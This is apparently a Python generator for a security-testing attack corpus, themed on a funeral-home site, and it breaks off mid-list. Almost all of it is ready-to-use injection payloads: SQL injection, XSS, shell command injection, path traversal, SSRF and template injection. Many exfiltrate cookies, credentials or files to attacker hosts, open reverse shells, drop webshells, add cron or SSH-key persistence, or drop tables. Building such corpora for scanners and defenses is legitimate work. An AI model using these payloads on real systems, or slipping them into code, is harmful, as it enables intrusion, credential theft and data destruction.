#!/usr/bin/env python3
"""Attack corpus for the funeral-home / memorial-services theme. Stdlib only.

Every (class, value) pair below is hand-written.  The only computed values are
(a) a hand-written theme prefix joined to a hand-written payload and
(b) one URL-encoding applied to a hand-written payload.
"""
import json
import os
import random
from urllib.parse import quote

SEED = 15502
PREFIX = "haef"

# ====================================================================== sqli
SQLI = [
    ("obit-name-union-select", "O'Brien' UNION SELECT username,password_hash,NULL FROM staff_users-- -"),
    ("search-boolean", "smith' OR '1'='1"),
    ("plain-boolean", "' OR 1=1-- "),
    ("contract-number-union", "117 UNION ALL SELECT NULL,card_number,card_expiry FROM payments--"),
    ("case-id-stacked-mssql-xpcmdshell", "2403; EXEC xp_cmdshell 'whoami'--"),
    ("chapel-time-mysql-sleep", "Chapel B' AND SLEEP(5)-- -"),
    ("schedule-time-pg-sleep", "Visitation 4-7'; SELECT pg_sleep(10)--"),
    ("cemetery-time-mssql-waitfor", "Oak Hill'; WAITFOR DELAY '0:0:7'--"),
    ("obit-error-mysql-extractvalue", "Peggy' AND extractvalue(1,concat(0x7e,(SELECT @@version)))-- -"),
    ("obit-error-mysql-updatexml", "D'Amato' AND updatexml(null,concat(0x3a,(select user())),null)#"),
    ("search-orderby-probe", "smith' ORDER BY 7-- -"),
    ("sort-param-orderby-case", "(CASE WHEN (SELECT substr(password,1,1) FROM staff_users LIMIT 1)='a' THEN date_of_death ELSE last_name END)"),
    ("plot-number-boolean", "22 AND 1=(SELECT COUNT(*) FROM information_schema.tables)"),
    ("obit-name-oracle-union", "Nowak' UNION SELECT banner,NULL FROM v$version--"),
    ("obit-name-oracle-error-ctxsys", "Wiśniewski' AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))--"),
    ("rosary-oracle-time-pipe", "Rosary' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',8)--"),
    ("florist-sqlite-union-master", "lily' UNION SELECT sql,name FROM sqlite_master--"),
    ("hall-pg-copy-program", "Main Hall'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/x|sh'--"),
    ("obit-comment-as-space", "Jenkins'/**/UNION/**/SELECT/**/email,password/**/FROM/**/users--"),
    ("obit-case-mixing", "Vance' uNiOn SeLeCt 1,table_name,3 fRoM information_schema.tables-- -"),
    ("obit-mysql-versioned-comment", "Peña' /*!50000UNION*/ /*!50000SELECT*/ 1,2,group_concat(user,0x3a,authentication_string) FROM mysql.user#"),
    ("contract-stacked-drop", "PN-2024-0117'; DROP TABLE preneed_contracts;--"),
    ("guestbook-insert-subquery", "Loving mother', (SELECT password FROM staff_users WHERE id=1))-- "),
    ("staffnote-update-set", "Beloved', is_admin=1 WHERE username='frontdesk'-- "),
    ("case-id-hex-literal", "1 UNION SELECT 1,0x61646d696e,3--"),
    ("family-blind-substring", "O'Hara' AND SUBSTRING((SELECT password FROM users LIMIT 1),1,1)='$'--"),
    ("family-blind-ascii", "Nguyen' AND ASCII(SUBSTR((SELECT user()),1,1))>100-- -"),
    ("plain-oob-mssql-dirtree", r"'; EXEC master..xp_dirtree '\\attacker.example\share'--"),
    ("obit-oob-mysql-loadfile", r"' UNION SELECT LOAD_FILE(CONCAT('\\\\',(SELECT password FROM users LIMIT 1),'.attacker.example\\a'))-- -"),
    ("eulogy-oob-oracle-utlhttp", "x'||UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual))||'"),
    ("upload-into-outfile", "' UNION SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/uploads/c.php'-- -"),
    ("search-like-wildcard", "%' OR 'x' LIKE 'x"),
    ("search-double-quote", "Smith\" OR \"1\"=\"1\" -- "),
    ("chapel-paren-close", "Chapel A') OR ('1'='1"),
    ("plain-numeric-or", "0 OR 1=1"),
    ("case-id-benchmark", "1 AND BENCHMARK(5000000,MD5('x'))"),
    ("search-having-error", "' HAVING 1=1--"),
    ("search-groupby-mssql", "' GROUP BY cases.id HAVING 1=1--"),
    ("obit-mssql-convert-error", "Lee' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.tables))--"),
    ("obit-pg-cast-error", "Kowalski' AND 1=CAST((SELECT current_user) AS int)--"),
    ("staffnote-pg-dollar-quote", "x'; INSERT INTO staff_users(username,role) VALUES ($$ghost$$,$$admin$$);--"),
    ("chapel-mysql-hash-comment", "Chapel B' OR 1=1#"),
    ("obit-name+fullwidth-quote", "Smith＇ OR 1=1--"),
    ("search-mysql-json", "' OR JSON_EXTRACT('{\"a\":1}','$.a')=1-- -"),
    ("search-char-function", "' UNION SELECT CHAR(97,100,109,105,110),2-- -"),
    ("case-id-if-sleep", "1 AND IF(1=1,SLEEP(4),0)"),
    ("case-id-rlike-error", "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))"),
    ("staff-mssql-addrole", "x'; EXEC sp_addsrvrolemember 'guest','sysadmin';--"),
    ("limit-procedure-analyse", "10 PROCEDURE ANALYSE(extractvalue(rand(),concat(0x3a,version())),1)"),
    ("case-id-sqlite-randomblob", "1 AND 1=randomblob(500000000)"),
    ("search-union-null-probe", "x' UNION SELECT NULL,NULL,NULL,NULL-- "),
    ("sort-param-subquery-sleep", "date_of_service,(SELECT SLEEP(3))"),
    ("case-id-between-blind", "1 AND (SELECT ascii(substr(password,1,1)) FROM users LIMIT 1) BETWEEN 97 AND 122"),
    ("obit-newline-as-space", "Smith'\nOR\n1=1\n-- "),
    ("obit-tab-as-space", "Smith'\tOR\t'a'='a"),
    ("search-db2-union", "' UNION SELECT versionnumber,NULL FROM sysibm.sysversions--"),
    ("cert-informant-floor-rand", "Karen' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- -"),
    ("ids-in-list-breakout", "1) OR 1=1 OR (1=1"),
    ("obit-pg-concat-subquery", "Lee'||(SELECT password FROM users LIMIT 1)||'"),
    ("plain-mssql-shutdown", "'; SHUTDOWN WITH NOWAIT;--"),
    ("obit-backslash-escape-bypass", "\\' OR 1=1-- -"),
    ("obit-gbk-wide-byte", "%bf%27 OR 1=1-- -"),
    ("staff-username-comment-truncate", "director'-- "),
    ("case-id-mssql-declare-hex", "1;DECLARE @q VARCHAR(99);SET @q=0x77616974666f722064656c61792027303a303a3527;EXEC(@q)--"),
    ("search-mssql-forxml", "' UNION SELECT name,NULL FROM master..sysdatabases FOR XML PATH('')--"),
    ("staffnote-pg-lo-import", "'; SELECT lo_import('/etc/passwd');--"),
    ("obit-oracle-xmltype-error", "' AND 1=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||(SELECT user FROM dual)||CHR(62))) FROM dual)--"),
    ("search+urlencode-union", "Smith%27%20UNION%20SELECT%20NULL%2Cpassword%20FROM%20users--"),
    ("search+double-urlencode", "%2527%2520OR%25201%253D1--"),
    ("contract-mssql-openrowset", "'; SELECT * FROM OPENROWSET(BULK 'C:\\inetpub\\wwwroot\\web.config', SINGLE_CLOB) AS x;--"),
    ("florist-order-id-case-when", "88213 AND (CASE WHEN (SELECT COUNT(*) FROM staff_users)>0 THEN 1 ELSE 1/0 END)=1"),
]
SQLI_PREFIXES = ["Obituary for Harold Jenkins", "PN-2024-0117", "Chapel B, Sat 10:00", "Card: With love, the Kims",
                 "Informant: Karen Whitfield", "Order #88213", "Plot 22-B Oak Hill"]
SQLI_PAYLOADS = [("union-select", "' UNION SELECT ssn,NULL FROM decedents-- -"), ("mysql-sleep", "' AND SLEEP(6)#"),
                 ("stacked-drop", "'; DROP TABLE guestbook_entries--"), ("boolean", "' OR 'a'='a' -- "),
                 ("mssql-waitfor", "'; WAITFOR DELAY '0:0:9'--")]
SQLI_ENC = [("search-union-select", "' UNION SELECT username,password FROM staff_users-- -"),
            ("case-id-sleep", "1 AND SLEEP(5)"), ("obit-boolean-hash-comment", "Lee' OR 1=1#")]

# ====================================================================== xss
XSS = [
    ("plain-script-tag", "<script>alert(document.domain)</script>"),
    ("guestbook-img-onerror", "RIP Joe <img src=x onerror=alert(1)>"),
    ("guestbook-svg-onload-cookie", "Thinking of you <svg onload=fetch('//attacker.example/c?'+document.cookie)>"),
    ("eulogy-iframe-srcdoc", "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>"),
    ("guestbook-anchor-javascript", "<a href=\"javascript:alert(1)\">photos from the wake</a>"),
    ("obit-anchor-tab-in-scheme", "<a href=\"jav&#x09;ascript:alert(1)\">slideshow</a>"),
    ("guestbook-body-onpageshow", "<body onpageshow=alert(1)>"),
    ("obit-details-ontoggle", "In loving memory <details open ontoggle=alert(1)>"),
    ("guestbook-input-autofocus", "<input autofocus onfocus=alert(1)>"),
    ("obit-video-source-onerror", "<video><source onerror=\"alert(1)\"></video>"),
    ("eulogy-mxss-math-style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>"),
    ("name-attr-breakout-script-src", "\"><script src=//attacker.example/x.js></script>"),
    ("name-single-quote-attr-event", "O' onmouseover='alert(1)"),
    ("florist-card-attr-autofocus", "With love\" autofocus onfocus=\"alert(1)"),
    ("livestream-js-string-breakout", "';alert(document.cookie);//"),
    ("livestream-close-script", "</script><script>alert(1)</script>"),
    ("obit+unicode-escape-json", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),
    ("guestbook-entity-in-handler", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
    ("eulogy-svg-script-entities", "<svg><script>&#x61;lert(1)</script></svg>"),
    ("guestbook+urlencode-script", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ("guestbook+double-urlencode-svg", "%253Csvg%2520onload%253Dalert(1)%253E"),
    ("guestbook-case-mixing", "<ScRiPt>alert(1)</sCrIpT>"),
    ("obit-atob-eval", "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>"),
    ("eulogy-object-data-base64", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>"),
    ("obit-marquee-onstart", "<marquee onstart=alert(1)>In loving memory</marquee>"),
    ("staffnote-html-inject-form", "Please re-login: <form action=\"https://attacker.example/login\"><input name=password type=password placeholder=\"Staff password\"><button>Continue</button></form>"),
    ("guestbook-meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/\">"),
    ("obit-base-href-hijack", "<base href=\"//attacker.example/\">"),
    ("guestbook-img-cookie-exfil", "<img src=\"x\" onerror=\"this.src='//attacker.example/?c='+document.cookie\">"),
    ("plain-svg-slash-backtick", "<svg/onload=alert`1`>"),
    ("guestbook-unclosed-img", "<img src=x:x onerror=alert(1)//"),
    ("eulogy-contenteditable-onblur", "<x contenteditable onblur=alert(1)>click to edit the eulogy"),
    ("obit-popover-beforetoggle", "<button popovertarget=x>Photos</button><div popover id=x onbeforetoggle=alert(1)>"),
    ("guestbook-md-link-javascript", "[Memorial photos](javascript:alert(document.cookie))"),
    ("guestbook-md-image-attr-breakout", "![portrait](x\"onerror=\"alert(1))"),
    ("obit-angular-csti", "{{constructor.constructor('alert(1)')()}}"),
    ("obit-vue-csti", "{{_c.constructor('alert(1)')()}}"),
    ("eulogy-svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("eulogy-svg-animate-href", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Open eulogy</text></a></svg>"),
    ("livestream-iframe-javascript", "<iframe src=\"javascript:alert(1)\">"),
    ("livestream-embed-javascript", "<embed src=\"javascript:alert(1)\">"),
    ("guestbook-dynamic-import", "<img src=x onerror=\"import('//attacker.example/m.js')\">"),
    ("obit-audio-onerror", "<audio src onerror=alert(1)>"),
    ("plain-body-onload", "<body onload=alert(1)>"),
    ("florist-select-autofocus", "<select autofocus onfocus=alert(1)>"),
    ("eulogy-textarea-autofocus", "<textarea autofocus onfocus=alert(1)>"),
    ("guestbook-div-mouseover-overlay", "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\" onmouseover=\"alert(1)\"></div>"),
    ("website-field-javascript-url", "javascript:alert(1)"),
    ("website-field-case-mixed-scheme", "JaVaScRiPt:alert(document.domain)"),
    ("website-field-data-url", "data:text/html,<script>alert(1)</script>"),
    ("website-field+entity-scheme", "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)"),
    ("obit-js-identifier-unicode-escape", "<img src=x onerror=\\u0061lert(1)>"),
    ("guestbook+overlong-utf8", "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE"),
    ("guestbook+percent-u", "%u003Cscript%u003Ealert(1)%u003C/script%u003E"),
    ("guestbook+fullwidth-brackets", "＜script＞alert(1)＜/script＞"),
    ("eulogy-svg-style-breakout", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
    ("obit-noscript-mxss", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("obit-onclick-api-exfil", "<a href=# onclick=\"fetch('/api/staff/export').then(r=>r.text()).then(t=>navigator.sendBeacon('//attacker.example',t))\">Read the full eulogy</a>"),
    ("staffnote-localstorage-exfil", "<script>new Image().src='https://attacker.example/c?'+encodeURIComponent(localStorage.token)</script>"),
    ("livestream-js-minus-breakout", "\"-alert(1)-\""),
    ("eulogy-textarea-close", "</textarea><script>alert(1)</script>"),
    ("obit-title-close", "</title><svg onload=alert(1)>"),
    ("guestbook-empty-comment-trick", "<!--><svg onload=alert(1)>-->"),
    ("guestbook-srcset-onerror", "<img srcset=\",,,,,x\" onerror=alert(1)>"),
    ("obit-picture-source-onerror", "<picture><source srcset=x><img onerror=alert(1)></picture>"),
    ("eulogy-style-close", "</style><script>alert(1)</script>"),
    ("florist-card-svg-xlink", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"10\" y=\"20\">Order flowers</text></a></svg>"),
    ("obit-form-formaction", "<form><button formaction=javascript:alert(1)>Sign guestbook</button></form>"),
]
XSS_PREFIXES = ["So sorry for your loss ", "Rest in peace, Grandpa ", "Card: Forever in our hearts ",
                "Watching from Manila ", "Obituary text: Margaret O'Connell, 87, "]
XSS_PAYLOADS = [("img-onerror", "<img src=1 onerror=alert(document.cookie)>"), ("svg-onload", "<svg onload=alert(2)>"),
                ("script-cookie-exfil", "<script>fetch('//attacker.example/'+document.cookie)</script>"),
                ("iframe-javascript", "<iframe src=javascript:alert(3)>"), ("body-onfocus", "<body onfocus=alert(4) autofocus>")]
XSS_ENC = [("guestbook-img-onerror", "<img src=x onerror=alert(1)>"), ("name-attr-breakout-svg", "\"><svg onload=alert(1)>"),
           ("plain-script-tag", "<script>alert(document.domain)</script>")]

# ====================================================================== cmdi
CMDI = [
    ("portrait-file-semicolon-curl-sh", "portrait.jpg; curl http://attacker.example/s.sh | sh"),
    ("dc-scan-and-cat", "smith_john_dc.pdf && cat /etc/passwd"),
    ("program-pipe-nc", "program.pdf | nc 203.0.113.7 4444 -e /bin/sh"),
    ("plain-dollar-subshell", "$(id)"),
    ("plain-backticks", "`whoami`"),
    ("livestream-file-subshell-sleep", "memorial.mp4$(sleep 10)"),
    ("slideshow-rm-rf", "slideshow.mov; rm -rf /var/lib/funeral/*"),
    ("photo-or-wget-bash", "x || wget -qO- http://attacker.example/a|bash"),
    ("obit-export-reverse-shell", "obit.txt; bash -i >& /dev/tcp/203.0.113.9/443 0>&1"),
    ("photo-newline-separator", "photo.png\ncurl attacker.example/p|sh"),
    ("filename-ifs-space", "a;${IFS}cat${IFS}/etc/shadow"),
    ("filename-brace-expansion", "eulogy.docx;{cat,/etc/passwd}"),
    ("filename-quote-obfuscation", "card.pdf; c'a't /e't'c/pas'sw'd"),
    ("filename-glob-obfuscation", "card.pdf; /???/c?t /???/p?ss??"),
    ("filename-base64-pipe-sh", "photo.jpg; echo Y3VybCBhdHRhY2tlci5leGFtcGxlL3h8c2g= | base64 -d | sh"),
    ("tar-arg-checkpoint-action", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh"),
    ("curl-arg-output-webroot", "-o /var/www/html/shell.php http://attacker.example/s.txt"),
    ("git-arg-upload-pack", "--upload-pack=touch /tmp/pwn"),
    ("wget-arg-post-file", "--post-file=/etc/passwd http://attacker.example/"),
    ("ssh-arg-proxycommand", "-oProxyCommand=curl attacker.example/x|sh"),
    ("zip-arg-unzip-command", "-TmTT=sh -c 'id>/tmp/o'"),
    ("find-arg-exec", "-exec sh -c id ;"),
    ("rsync-arg-remote-shell", "-e sh -c 'id>/tmp/r'"),
    ("sendmail-arg-log-to-webroot", "family@example.com -OQueueDirectory=/tmp -X/var/www/html/log.php"),
    ("windows-obit-amp-type", r"obit.docx & type C:\Windows\win.ini"),
    ("windows-powershell-iex-download", "| powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/a.ps1')\""),
    ("windows-certutil-download-run", r"& certutil -urlcache -split -f http://attacker.example/x.exe %TEMP%\x.exe & %TEMP%\x.exe"),
    ("windows-powershell-encodedcommand", "; powershell -enc aQB3AHIAIABhAHQAdABhAGMAawBlAHIALgBlAHgAYQBtAHAAbABlAC8AcAB8AGkAZQB4AA=="),
    ("windows-caret-obfuscation", "slides.pptx & w^h^o^a^m^i"),
    ("windows-comspec", "& %COMSPEC% /c net user"),
    ("windows-bitsadmin", r"&& bitsadmin /transfer j http://attacker.example/x.exe C:\Users\Public\x.exe"),
    ("windows-mshta", "| mshta http://attacker.example/x.hta"),
    ("windows-rundll32-unc", r"| rundll32 \\203.0.113.5\s\x.dll,Start"),
    ("powershell-subexpression-exfil", r"$(Invoke-WebRequest http://attacker.example/c -Method POST -Body (Get-Content C:\inetpub\wwwroot\web.config))"),
    ("filename+urlencode-semicolon", "%3Bcat%20%2Fetc%2Fpasswd"),
    ("filename+urlencode-newline", "photo.jpg%0Aid"),
    ("filename+urlencode-andand", "urn.png%26%26whoami"),
    ("filename-printf-octal", r"; $(printf '\151\144')"),
    ("filename-backtick-curl-post", "`curl -d @/etc/passwd attacker.example`"),
    ("plain-sleep-comment", "; sleep 15 #"),
    ("hostname-ping-time", "| ping -c 10 127.0.0.1"),
    ("windows-ping-time", "& ping -n 11 127.0.0.1 &"),
    ("dns-exfil-nslookup", "; nslookup $(whoami).attacker.example"),
    ("python-oneliner", "&& python3 -c 'import os;os.system(\"id\")'"),
    ("perl-exec-shell", "; perl -e 'exec \"/bin/sh\"'"),
    ("php-cli-system", "; php -r 'system(\"id\");'"),
    ("drop-webshell-base64", "|| echo PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg== | base64 -d > /var/www/html/x.php"),
    ("crontab-persistence", "; (crontab -l; echo '* * * * * curl attacker.example/b|sh') | crontab -"),
    ("ssh-key-persistence", "; echo 'ssh-ed25519 AAAAFAKEKEYFAKEKEY attacker' >> ~/.ssh/authorized_keys"),
    ("bash-read-file-substitution", "Obit for $(</etc/passwd)"),
    ("path-slash-from-var", "; cat ${HOME:0:1}etc${HOME:0:1}passwd"),
    ("backslash-obfuscation", "; l\\s -la /"),
    ("double-quote-breakout", "Smith\"; id; echo \""),
    ("single-quote-breakout", "O'Brien'; id; echo '"),
    ("awk-system", "; awk 'BEGIN{system(\"id\")}'"),
    ("busybox-nc", "; busybox nc 203.0.113.44 9001 -e sh"),
    ("windows-env-to-unc", "& powershell -c \"Get-ChildItem env: | Out-File \\\\203.0.113.8\\drop\\env.txt\""),
    ("curl-upload-hex-ip", "; curl -F f=@/etc/hosts http://0xcb.0x00.0x71.0x09/"),
    ("ffmpeg-livestream-arg-file-exfil", "-i /etc/passwd -f data http://attacker.example/up"),
    ("imagemagick-filename-pipe", "|curl${IFS}attacker.example/m|sh;.jpg"),
    ("wkhtmltopdf-arg-local-file", "--enable-local-file-access --allow / file:///etc/shadow"),
    ("heredoc-tee-webshell", "; tee /var/www/html/y.php <<< '<?php system($_GET[1]); ?>'"),
]
CMDI_PREFIXES = ["smith_john_dc.pdf", "memorial_slideshow_final.mp4", "PN-2024-0117.pdf", "obituary-walter-king.docx",
                 "Chapel-B-program.png"]
CMDI_PAYLOADS = [("semicolon-id", ";id"), ("andand-uname", " && uname -a"), ("pipe-cat", " | cat /etc/passwd"),
                 ("subshell-curl", "$(curl attacker.example/k)"), ("backtick-sleep", "`sleep 7`"), ("windows-amp-whoami", " & whoami")]
CMDI_ENC = [("filename-semicolon-cat", "; cat /etc/passwd"), ("filename-pipe-nc", "| nc 198.51.100.23 8080 -e /bin/bash")]

# ====================================================================== traversal
TRAV = [
    ("plain-dotdot-passwd", "../../../../etc/passwd"),
    ("windows-backslash-winini", r"..\..\..\windows\win.ini"),
    ("photo-dir-dotdot-shadow", "photos/../../../../etc/shadow"),
    ("photo+urlencode-dotdot", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("photo+double-urlencode", "%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("photo+overlong-utf8-slash", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("photo+fullwidth-slash-utf8", "..%ef%bc%8f..%ef%bc%8fetc/passwd"),
    ("filter-bypass-doubled-dots", "....//....//....//etc/passwd"),
    ("tomcat-semicolon-path", "..;/..;/WEB-INF/web.xml"),
    ("uploads-proc-environ", "/var/www/funeral/uploads/../../../../proc/self/environ"),
    ("obit-pdf-null-byte", "obituaries/2024/smith.pdf%00.jpg"),
    ("passwd-null-byte", "../../../../../../etc/passwd%00"),
    ("absolute-windows-webconfig", r"C:\inetpub\wwwroot\web.config"),
    ("absolute-unix-passwd", "/etc/passwd"),
    ("unc-path", r"\\203.0.113.12\share\portrait.jpg"),
    ("windows+urlencode-backslash", "..%5c..%5c..%5cboot.ini"),
    ("windows+percent-u-fullwidth", "%uff0e%uff0e%u2215%uff0e%uff0e%u2215etc%u2215passwd"),
    ("ssh-private-key", "../../../../../home/funeral/.ssh/id_rsa"),
    ("dotenv", "../../.env"),
    ("rails-db-config", "../../../config/database.yml"),
    ("windows-appsettings", r"..\..\..\..\ProgramData\FuneralSuite\appsettings.json"),
    ("proc-self-cwd", "/proc/self/cwd/config.php"),
    ("template-name-dotdot", "templates/../../../../../../etc/hosts"),
    ("lfi-php-filter", "php://filter/convert.base64-encode/resource=../config.php"),
    ("lfi-zip-wrapper", "zip://uploads/portraits/p1234.jpg%23shell.php"),
    ("windows-doubled-backslash", r"....\\....\\windows\\system32\\drivers\\etc\\hosts"),
    ("double-urlencode-slash-only", "..%252f..%252f..%252fetc%252fpasswd"),
    ("half-encoded-dot", ".%2e/.%2e/.%2e/etc/passwd"),
    ("log-file-read", "%2e%2e/%2e%2e/%2e%2e/var/log/nginx/access.log"),
    ("mysql-user-table", "../../../../../../../../var/lib/mysql/mysql/user.MYD"),
    ("static-prefix-encoded-slash", "/static/..%2f..%2f..%2fetc/passwd"),
    ("filter-bypass-dot-dot-slash", "..././..././..././etc/passwd"),
    ("encoded-backslash-prefix", "/%5C../%5C../%5C../etc/passwd"),
    ("windows-sam-hive", r"obit_photos\..\..\..\..\Windows\System32\config\SAM"),
    ("doubled-slashes", "..//..//..//etc//passwd"),
    ("deep-issue", "file/../../../../../../../../etc/issue"),
    ("overlong-dots", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("grub-config-urlencoded", "..%2F..%2F..%2F..%2Fboot%2Fgrub%2Fgrub.cfg"),
    ("webroot-bash-history", "/var/www/html/../../../root/.bash_history"),
    ("windows-ntuser", r"\..\..\..\..\..\Users\Administrator\NTUSER.DAT"),
    ("aws-credentials", "../../../../root/.aws/credentials"),
    ("uploads-encoded-backslash-webconfig", "uploads/%2e%2e%5c%2e%2e%5cweb.config"),
    ("k8s-serviceaccount-token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("lfi-phar-deserialize", "phar://uploads/portraits/p1234.jpg/x"),
]
TRAV_PREFIXES = ["obituaries/2024/", "photos/harold-jenkins/", "contracts/PN-2024-0117/", "livestream/replays/"]
TRAV_PAYLOADS = [("dotdot-passwd", "../../../../etc/passwd"), ("dotdot-proc-environ", "../../../../../proc/self/environ"),
                 ("dotdot-ssh-key", "../../../../root/.ssh/id_rsa"), ("windows-backslash", r"..\..\..\..\Windows\win.ini")]
TRAV_ENC = [("dotdot-shadow", "../../../../etc/shadow"), ("dotdot-git-config", "../../../.git/config")]

# ====================================================================== ssrf
SSRF = [
    ("photo-url-aws-imds-creds", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("photo-url-gcp-metadata", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("photo-url-azure-imds", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("webhook-localhost-admin", "http://127.0.0.1:8080/admin"),
    ("webhook-redis-http", "http://localhost:6379/"),
    ("webhook-gopher-redis-cron", "gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn*%2F1%20*%20*%20*%20*%20curl%20attacker.example%2Fs%7Csh%5Cn%22%0D%0ACONFIG%20SET%20dir%20%2Fvar%2Fspool%2Fcron%0D%0ASAVE"),
    ("ip-decimal-loopback", "http://2130706433/"),
    ("ip-hex-loopback", "http://0x7f000001/"),
    ("ip-octal-loopback", "http://0177.0.0.1/"),
    ("ip-short-loopback-elastic", "http://127.1:9200/_cat/indices"),
    ("ipv6-loopback-docker", "http://[::1]:2375/containers/json"),
    ("ipv6-mapped-imds", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
    ("dns-rebind-imds", "http://169.254.169.254.attacker.example/latest/meta-data/"),
    ("open-redirect-internal", "http://attacker.example/redirect?to=http://10.0.0.5/"),
    ("userinfo-confusion", "http://attacker.example@127.0.0.1/"),
    ("fragment-confusion", "http://127.0.0.1#@attacker.example/"),
    ("file-scheme-passwd", "file:///etc/passwd"),
    ("file-scheme-windows", "file://C:/Windows/win.ini"),
    ("dict-memcached", "dict://127.0.0.1:11211/stats"),
    ("ftp-internal-backup", "ftp://10.0.0.12/backup/db.sql"),
    ("ldap-localhost", "ldap://127.0.0.1:389/dc=funeral,dc=local"),
    ("router-admin", "http://192.168.1.1/cgi-bin/config.exp"),
    ("consul-agent", "http://10.0.0.8:8500/v1/agent/self"),
    ("k8s-secrets", "https://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("cluster-internal-service", "http://internal-billing.svc.cluster.local/invoices?all=1"),
    ("docker-bridge-api", "http://172.17.0.1:2375/images/json"),
    ("zero-ip", "http://0/"),
    ("all-zero-ip-ssh", "http://0.0.0.0:22/"),
    ("enclosed-alnum-loopback", "http://①②⑦.⓪.⓪.①/"),
    ("smtp-via-http-crlf", "http://127.0.0.1:25/%0D%0AHELO%20attacker.example%0D%0A"),
    ("aws-user-data", "http://169.254.169.254/latest/user-data"),
    ("alibaba-metadata", "http://100.100.100.200/latest/meta-data/"),
    ("ecs-task-credentials", "http://169.254.170.2/v2/credentials/"),
    ("java-jar-scheme", "jar:http://attacker.example/x.jar!/"),
    ("java-netdoc", "netdoc:///etc/passwd"),
    ("ip-hex-imds", "http://0xa9fea9fe/latest/meta-data/"),
    ("ip-decimal-imds", "http://2852039166/latest/meta-data/"),
    ("ipv6-mapped-dotted-loopback", "http://[0:0:0:0:0:ffff:127.0.0.1]/"),
    ("uppercase-localhost-solr", "http://LOCALHOST:8983/solr/admin/cores?action=STATUS"),
    ("rabbitmq-mgmt", "http://127.0.0.1:15672/api/users"),
    ("octal-private", "http://0300.0250.0.1/"),
    ("scheme-relative-imds", "//169.254.169.254/latest/meta-data/"),
    ("proxy-param-internal", "https://www.hartleyfuneral.example/img-proxy?src=http://127.0.0.1:8080/actuator/env"),
    ("ipv6-unspecified", "http://[::]:80/server-status"),
]
SSRF_PREFIXES = ["http://127.0.0.1", "http://169.254.169.254", "http://10.0.0.7:8080", "http://[::1]", "http://localhost:9000"]
SSRF_PAYLOADS = [("internal-host-photo-path", "/obituaries/photo.jpg"), ("internal-host-metadata", "/latest/meta-data/"),
                 ("internal-host-admin-export", "/admin/staff/export.csv"), ("internal-host-stream-keys", "/livestream/keys"),
                 ("internal-host-api", "/internal/contracts")]
SSRF_ENC = []

# ====================================================================== code
CODE = [
    ("obit-jinja2-globals-popen", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("eulogy-jinja2-cycler", "In memory of Dad {{ cycler.__init__.__globals__.os.popen('cat /etc/passwd').read() }}"),
    ("card-jinja2-subclasses", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("obit-jinja2-request-app", "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("eulogy-jinja2-loop-catch-warnings", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').system('id') }}{% endif %}{% endfor %}"),
    ("plain-jinja2-config", "{{config.items()}}"),
    ("obit-jinja2-attr-hex-bypass", "{{ lipsum|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('get')('os')|attr('popen')('id')|attr('read')() }}"),
    ("card-twig-filter-system", "{{['id']|filter('system')}}"),
    ("card-twig-undefined-filter", "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}"),
    ("obit-freemarker-execute-assign", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("obit-freemarker-execute-inline", "Beloved father ${\"freemarker.template.utility.Execute\"?new()(\"whoami\")}"),
    ("obit-velocity-runtime", "#set($rt=$class.inspect('java.lang.Runtime').type.getRuntime())$rt.exec('id')"),
    ("template-thymeleaf-preprocess", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("card-smarty-system", "{system('id')}"),
